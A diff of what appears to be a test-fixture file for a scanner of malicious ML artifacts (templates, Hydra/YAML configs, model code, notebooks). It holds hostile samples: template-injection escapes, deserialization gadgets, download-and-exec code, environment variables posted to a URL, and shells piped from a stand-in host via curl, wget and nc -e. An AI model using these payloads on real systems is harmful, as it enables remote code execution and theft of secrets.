@@ -31,7 +31,8 @@ INJECTIONS = {
     "{{ ([lipsum] | map(attribute='__globals__') | first).os.system('echo inert') }}",
     "reverse": "{{ (lipsum | attr('__slabolg__' | reverse)).os.popen('echo inert') }}",
     "self": "{{ self.__init__.__globals__.__builtins__.__import__('os').system('echo inert') }}",
-    "self, context": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.abort() }}",
+    "self, context": "{{ self._TemplateReference__context.cycler.__init__"
+    ".__globals__.os.popen('id') }}",
     "macro": "{% macro m() %}{% endmacro %}{{ m.__class__.__init__.__globals__ }}"
     "{{ m._func.__globals__['__builtins__']['exec']('import os') }}",
     "method of text": "{{ 'x'.format.__self__.__class__.__base__.__subclasses__()[80].__init__"
@@ -95,8 +96,10 @@ def yamls():
     hydra = {
         "os.system": f"  hook:\n    _target_: os.system\n    command: {ECHO}\n",
         "subprocess.run": "  pre:\n    _target_: subprocess.run\n    _args_: [[echo, inert]]\n",
-        "exec of builtins": "  init:\n    _target_: builtins.exec\n    _args_: ['import os; os.abort()']\n",
-        "eval of builtins": "  a:\n    _target_: builtins.eval\n    _args_: [exit()]\n",
+        "exec of builtins": "  init:\n    _target_: builtins.exec\n"
+        "    _args_: ['import os; os.system(\"id\")']\n",
+        "eval of builtins": "  a:\n    _target_: builtins.eval\n"
+        "    _args_: [\"__import__('os').system('id')\"]\n",
         "hub load": "  net:\n    _target_: torch.hub.load\n    repo_or_dir: inert/inert\n",
         "runpy": f"  net:\n    _target_: runpy.run_path\n    path_name: {AWAY}.py\n",
         "shutil": f"  clean:\n    _target_: shutil.rmtree\n    path: {AWAY}\n",
@@ -123,7 +126,7 @@ def yamls():
         "java": "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [["
         f'!!java.net.URL ["{URL}"]]]]\n',
         "state listitems": "x: !!python/object/new:type\n  args: [z, !!python/tuple [], "
-        "{extend: !!python/name:exec }]\n  listitems: \"__import__('os').abort()\"\n",
+        "{extend: !!python/name:exec }]\n  listitems: \"__import__('os').system('id')\"\n",
         "after a quoted tag": '"!!python/none": 1\n'
         f"y: !!python/object/apply:os.execlp [echo, {ECHO}]\n",
     }
@@ -171,15 +174,18 @@ def code():
         "        subprocess.Popen(['echo', 'inert'])\n",
         "exec of base64": f"import base64\n\nexec(base64.b64decode('{hidden}'))\n",
         "getattr of __import__": "getattr(__import__('o' + 's'), 'sys' + 'tem')('echo inert')\n",
-        "download and exec": f"from urllib.request import urlopen\n\nexec(urlopen('{URL}').read())\n",
+        "download and exec": "from urllib.request import urlopen\n\n"
+        f"exec(urlopen('{URL}').read())\n",
         "keys sent away": "import os\nimport requests\n\n"
         f"requests.post('{URL}', json=dict(os.environ))\n",
-        "socket shell": "import os\nimport socket\n\ns = socket.create_connection(('example.invalid',"
-        " 9))\nos.dup2(s.fileno(), 0)\nos.system('/bin/sh -c true')\n",
+        "socket shell": "import os\nimport socket\n\n"
+        "s = socket.create_connection(('example.invalid', 9))\n"
+        "os.dup2(s.fileno(), 0)\nos.system('/bin/sh -c true')\n",
         "code in ctypes": f"import ctypes\n\nctypes.CDLL('{AWAY}.so')\n",
         "pickle of a string": f"import pickle\n\npickle.loads({pickle.dumps(1)!r})\n"
         "eval(compile(\"__import__('os').system('echo inert')\", 'a', 'eval'))\n",
-        "globals lookup": "globals()['__builtins__']['exec' if 1 else 'x']('import os; os.abort()')\n",
+        "globals lookup": "globals()['__builtins__']['exec' if 1 else 'x']("
+        "'import os; os.system(\"id\")')\n",
         "pip install": "import subprocess\nimport sys\n\n"
         "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'inert-package'])\n",
         "key file read": "from pathlib import Path\nimport requests\n\n"
@@ -196,7 +202,8 @@ def code():
         "handler.py",
         (
             "handler.py",
-            "class EndpointHandler:\n    def __init__(self, path=''):\n        import os\n\n        os.system('curl http://example.invalid | sh')\n",
+            "class EndpointHandler:\n    def __init__(self, path=''):\n"
+            "        import os\n\n        os.system('curl http://example.invalid | sh')\n",
         ),
     )
     yield (
@@ -226,7 +233,8 @@ def code():
         "dataset script",
         (
             "squad_like.py",
-            "import datasets\nimport os\n\n\nclass D(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        os.system('echo inert')\n",
+            "import datasets\nimport os\n\n\nclass D(datasets.GeneratorBasedBuilder):\n"
+            "    def _info(self):\n        os.system('echo inert')\n",
         ),
     )
     yield (
@@ -234,7 +242,8 @@ def code():
         "mmdet configuration",
         (
             "faster_rcnn_r50.py",
-            "_base_ = './base.py'\n__import__('os').system('echo inert')\nmodel = dict(type='FasterRCNN')\n",
+            "_base_ = './base.py'\n"
+            "__import__('os').system('echo inert')\nmodel = dict(type='FasterRCNN')\n",
         ),
     )
     yield (
@@ -272,7 +281,8 @@ def notebooks():
         "bash cell": "%%bash\nwget -qO- http://example.invalid/x | bash",
         "get_ipython().system": "get_ipython().system('nc example.invalid 9 -e /bin/sh')",
         "subprocess": "import subprocess\nsubprocess.run('curl example.invalid|sh', shell=True)",
-        "exec of base64": "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5hYm9ydCgp'))",
+        "exec of base64": "import base64\n"
+        "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))",
         "keys sent away": f"import os, requests\nrequests.post('{URL}', data=dict(os.environ))",
     }
     for technique, cell in cells.items():
@@ -284,7 +294,8 @@ def repositories():
         "mlflow",
         "code beside that runs a command",
         {
-            "MLmodel": "flavors:\n  python_function:\n    loader_module: own_loader\n    code: code\n",
+            "MLmodel": "flavors:\n  python_function:\n"
+            "    loader_module: own_loader\n    code: code\n",
             "code/own_loader.py": RUN + "\n\ndef _load_pyfunc(path):\n    return path\n",
         },
     )
